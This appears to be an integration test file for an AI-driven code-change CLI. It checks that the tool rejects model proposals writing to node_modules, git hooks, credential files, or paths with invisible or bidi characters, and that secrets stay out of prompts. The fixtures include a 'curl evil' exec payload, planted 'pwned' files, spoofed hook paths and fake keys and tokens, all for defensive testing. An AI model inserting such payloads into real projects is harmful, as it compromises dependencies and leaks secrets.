// What a proposal may write and what the model may read (issue 7, items 6–9 and 11), through the built
// CLI against a real git repository and a real OpenAI-compatible server on loopback.
import { existsSync } from "node:fs";
import { mkdir, readFile, readdir, stat, writeFile } from "node:fs/promises";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { SAMPLE_FILES, SAMPLE_PROPOSAL } from "../../src/demo/sample-repo.js";
import type { CycleRecord } from "../../src/core/types.js";
import { jsonOf, runCli } from "../support/cli.js";
import { modelEnv, useCliScenario } from "../support/cli-scenario.js";
import type { FakeOpenAI } from "../support/fake-openai.js";
import { makeRepo, type TestRepo } from "../support/git-repo.js";

let model: FakeOpenAI;
let repo: TestRepo;

useCliScenario({ setModel: (started) => (model = started), repo: () => repo });

const env = () => modelEnv(model);

async function cycle(...args: string[]) {
  const result = await runCli(["cycle", "--root", repo.root, "--json", ...args], { env: env() });
  return { ...result, record: jsonOf<CycleRecord>(result) };
}

const TEST_FILE = { path: "test/extra.test.js", is_new: true, content: 'import { test } from "node:test";\ntest("x", () => {});\n' };
const proposing = (...files: unknown[]) => ({ content: JSON.stringify({ summary: "s", rationale: "r", estimated_loc: 2, files: [...files, TEST_FILE] }) });
/** `prd-bot apply-edits --check`: the cycle's guardrails and apply step on a proposal file, no model and no tests. */
async function checkEdits(...files: unknown[]) {
  const file = path.join(repo.root, "..", "proposal.json");
  await writeFile(file, JSON.stringify({ summary: "s", rationale: "r", estimated_loc: 2, files: [...files, TEST_FILE] }));
  const result = await runCli(["apply-edits", "--root", repo.root, "--edits", file, "--check", "--json"]);
  return { ...result, report: jsonOf<{ ok: boolean; outcome: string; reason: string }>(result) };
}
const promptOf = (index: number): string => ((model.requests[index]?.body as { messages: { content: string }[] }).messages ?? []).map((m) => m.content).join("\n");

describe("what a proposal may write", () => {
  it("refuses a gitignored path (node_modules) and leaves the installed file as it was", async () => {
    repo = await makeRepo(SAMPLE_FILES);
    const dep = path.join(repo.root, "node_modules", "dep", "index.js");
    await mkdir(path.dirname(dep), { recursive: true });
    await writeFile(dep, "module.exports = 1;\n");
    model.reply(proposing({ path: "node_modules/dep/index.js", is_new: false, content: "require('child_process').exec('curl evil');\n" }));
    const { record, code } = await cycle();
    expect(record.outcome).toBe("proposal_rejected");
    expect(code).toBe(3);
    expect(record.reason).toContain("node_modules/dep/index.js");
    expect(record.reason).toContain("ignore");
    expect(await readFile(dep, "utf8")).toBe("module.exports = 1;\n");
  });

  it("the restore removes ignored files the test run created and keeps those that were there (also --dry-run)", async () => {
    const config = "test:\n  command: node --test && mkdir -p node_modules/evil && echo pwned > node_modules/evil/index.js && echo x > build.log\n";
    repo = await makeRepo({ ...SAMPLE_FILES, ".gitignore": "node_modules/\n*.log\n", ".github/prd-bot.yml": config });
    const dep = path.join(repo.root, "node_modules", "dep", "index.js");
    await mkdir(path.dirname(dep), { recursive: true });
    await writeFile(dep, "module.exports = 1;\n");
    model.reply({ content: JSON.stringify(SAMPLE_PROPOSAL) }, { content: JSON.stringify(SAMPLE_PROPOSAL) });
    for (const args of [["--dry-run"], []]) {
      const { record } = await cycle(...args);
      expect(record.outcome, record.reason).toBe("ok");
      expect(existsSync(path.join(repo.root, "node_modules", "evil", "index.js"))).toBe(false);
      expect(existsSync(path.join(repo.root, "build.log"))).toBe(false);
      expect(await readFile(dep, "utf8")).toBe("module.exports = 1;\n");
      expect(await repo.git("status", "--porcelain", "--untracked-files=all")).toBe("");
    }
  });

  it("refuses git's own files and hook managers' folders by default", async () => {
    repo = await makeRepo(SAMPLE_FILES);
    // The full list is in test/unit/guardrails.test.ts; these go through the built CLI.
    for (const file of ["src/.gitattributes", ".husky/pre-commit", "lefthook.yml"]) {
      const { report, code } = await checkEdits({ path: file, is_new: true, content: "x\n" });
      expect(report.outcome, file).toBe("proposal_rejected");
      expect(report.reason, file).toContain("protected");
      expect(code).toBe(3);
    }
  });

  it("refuses paths with invisible or bidi characters, and an over-long path with a clear reason", async () => {
    repo = await makeRepo(SAMPLE_FILES);
    const zwnj = await checkEdits({ path: ".g\u200cit/hooks/post-checkout", is_new: true, content: "#!/bin/sh\n" });
    expect(zwnj.report.outcome).toBe("proposal_rejected");
    expect(zwnj.report.reason).toContain("U+200C");
    const bidi = await checkEdits({ path: "src/util\u202esj.js", is_new: true, content: "x\n" });
    expect(bidi.report.reason).toContain("U+202E");
    // Through a whole cycle: a clear rejection with exit 3, not a raw ENAMETOOLONG crash.
    model.reply(proposing({ path: `src/${"a".repeat(300)}.js`, is_new: true, content: "x\n" }));
    const long = await cycle();
    expect(long.record.outcome).toBe("proposal_rejected");
    expect(long.code).toBe(3);
    expect(long.record.reason).toMatch(/over the 255/);
    expect(long.stderr).not.toContain("ENAMETOOLONG");
    const deep = await checkEdits({ path: `${"abcdefghij/".repeat(100)}x.js`, is_new: true, content: "x\n" });
    expect(deep.report.reason).toMatch(/over the limit of 1024/);
  });
});

describe("encodings", () => {
  it("refuses to rewrite a Latin-1 file or a binary without NUL bytes, and keeps them out of the prompt", async () => {
    repo = await makeRepo(SAMPLE_FILES);
    const latin1 = Buffer.from("caf\xe9 cr\xe8me br\xfbl\xe9e\nsecond line\n", "latin1");
    const binary = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0xfe, 0x80, 0x81, 0x41, 0x42]);
    await writeFile(path.join(repo.root, "src", "menu.txt"), latin1);
    await writeFile(path.join(repo.root, "src", "logo.bin"), binary);
    await repo.git("add", "-A");
    await repo.git("commit", "-q", "-m", "latin-1 and binary");
    model.reply(proposing({ path: "src/menu.txt", is_new: false, edits: [{ old_string: "second line", new_string: "2nd line" }] }));
    const first = await cycle();
    expect(first.record.outcome).toBe("proposal_rejected");
    expect(first.record.reason).toContain("src/menu.txt is not valid UTF-8");
    expect(promptOf(0)).not.toContain("--- src/menu.txt");
    expect(promptOf(0)).not.toContain("\uFFFD");
    // apply-edits writes in place without --check: the binary is still refused and left byte for byte.
    const file = path.join(repo.root, "..", "binary.json");
    await writeFile(file, JSON.stringify({ summary: "s", rationale: "r", estimated_loc: 1, files: [{ path: "src/logo.bin", is_new: false, content: "PNG\n" }, TEST_FILE] }));
    const second = jsonOf<{ outcome: string; reason: string }>(await runCli(["apply-edits", "--root", repo.root, "--edits", file, "--json"]));
    expect(second.outcome).toBe("proposal_rejected");
    expect(second.reason).toContain("src/logo.bin is not valid UTF-8");
    expect(await readFile(path.join(repo.root, "src", "menu.txt"))).toEqual(latin1);
    expect(await readFile(path.join(repo.root, "src", "logo.bin"))).toEqual(binary);
  });

  it("keeps a UTF-8 byte-order mark when a model rewrites the whole file", async () => {
    repo = await makeRepo({ ...SAMPLE_FILES, "src/slugify.js": `\uFEFF${SAMPLE_FILES["src/slugify.js"]}` });
    const fixed = SAMPLE_FILES["src/slugify.js"]!.replace('.replace(/[^a-z0-9]+/g, "-");', '.replace(/[^a-z0-9]+/g, "-")\n    .replace(/^-+|-+$/g, "");');
    const [, test] = SAMPLE_PROPOSAL.files;
    model.reply({ content: JSON.stringify({ ...SAMPLE_PROPOSAL, files: [{ path: "src/slugify.js", is_new: false, content: fixed }, test] }) });
    const { record } = await cycle();
    expect(record.outcome, record.reason).toBe("ok");
    const committed = await repo.git("show", `${record.branch}:src/slugify.js`);
    expect(committed.startsWith("\uFEFF// Turns a title")).toBe(true);
    expect(committed).toContain("/^-+|-+$/g");
  });
});

describe("secrets never enter a prompt", () => {
  it("keeps credential files and files holding tokens out of the context", async () => {
    const key = `-----BEGIN RSA PRIVATE KEY-----\n${"MIIEowIBAAKCAQEAq7Bz9Xk3JmP0".padEnd(64, "Qz8Lw2")}\n${"Vh4Nc6Ry1Tb5Ue9Wo3Ip7As2Df6Gh0Jk".repeat(2)}\n-----END RSA PRIVATE KEY-----\n`;
    const token = ["ghp", "_", "R8m2Kq9Lx4Vb7Nc1Zt6Wy3Hs5Jd0Fg8Pa2E"].join("");
    repo = await makeRepo({
      ...SAMPLE_FILES,
      "deploy/deploy_key.pem": key,
      "config/credentials.json": '{"user": "bot", "pass": "hunter2"}\n',
      "src/publish.js": `// slugify publish helper\nexport const GITHUB_TOKEN = "${token}";\n`,
      "docs/PRD.md": SAMPLE_FILES["docs/PRD.md"]!.replace("trims leading and trailing dashes", "trims leading and trailing dashes (see deploy/deploy_key.pem, config/credentials.json, src/publish.js)"),
    });
    model.reply({ content: JSON.stringify(SAMPLE_PROPOSAL) });
    const { record, stderr } = await cycle();
    expect(record.outcome, record.reason).toBe("ok");
    const prompt = promptOf(0);
    expect(prompt).toContain("--- src/slugify.js");
    for (const file of ["deploy/deploy_key.pem", "config/credentials.json", "src/publish.js"]) expect(prompt).not.toContain(`--- ${file}`);
    expect(prompt).not.toContain("PRIVATE KEY");
    expect(prompt).not.toContain(token);
    expect(stderr).toContain("kept out of the prompt");
    expect(stderr).not.toContain(token);
  });

  it("protects credential files from being written by default", async () => {
    repo = await makeRepo(SAMPLE_FILES);
    for (const file of ["deploy/new.pem", "config/credentials.yml"]) {
      const { report } = await checkEdits({ path: file, is_new: true, content: "x\n" });
      expect(report.outcome, file).toBe("proposal_rejected");
      expect(report.reason, file).toContain("protected");
    }
  });
});

describe("bounded work on model output", () => {
  it("a 300 KB whitespace-free answer fails fast; the repair request quotes a few KB; the transcript stays small", async () => {
    repo = await makeRepo(SAMPLE_FILES);
    const junk = "x".repeat(150_000) + "Q".repeat(150_000);
    model.reply({ content: junk }, { content: junk });
    const started = Date.now();
    const { record } = await cycle();
    expect(record.outcome).toBe("model_failed");
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(model.requests).toHaveLength(2);
    const quoted = (model.requests[1]?.body as { messages: { role: string; content: string }[] }).messages.find((m) => m.role === "assistant")?.content ?? "";
    expect(quoted.length).toBeLessThan(5000);
    expect(quoted).toContain("clipped 29");
    const transcript = await stat(path.join(repo.root, ".git", "prd-bot", record.transcript ?? "missing"));
    expect(transcript.size).toBeLessThan(700_000);
  });

  it("an answer over models.max_answer_bytes fails that model without being parsed", async () => {
    repo = await makeRepo({ ...SAMPLE_FILES, ".github/prd-bot.yml": `${SAMPLE_FILES[".github/prd-bot.yml"]}models:\n  max_answer_bytes: 20000\n` });
    const big = JSON.stringify({ ...SAMPLE_PROPOSAL, rationale: "r".repeat(40_000) });
    model.reply({ content: big });
    const { record } = await cycle();
    expect(record.outcome).toBe("model_failed");
    expect(record.reason).toContain("models.max_answer_bytes");
    expect(model.requests).toHaveLength(1);
    const transcripts = await readdir(path.join(repo.root, ".git", "prd-bot", "transcripts"));
    expect(transcripts).toHaveLength(1);
  });

  it("the local part of a cycle has a deadline (policy.local_deadline_seconds)", async () => {
    repo = await makeRepo({ ...SAMPLE_FILES, ".github/prd-bot.yml": `${SAMPLE_FILES[".github/prd-bot.yml"]}policy:\n  local_deadline_seconds: 0.001\n` });
    const { record, code } = await cycle();
    expect(record.outcome).toBe("error");
    expect(code).toBe(1);
    expect(record.reason).toContain("policy.local_deadline_seconds");
    expect(model.requests).toHaveLength(0);
  });
});
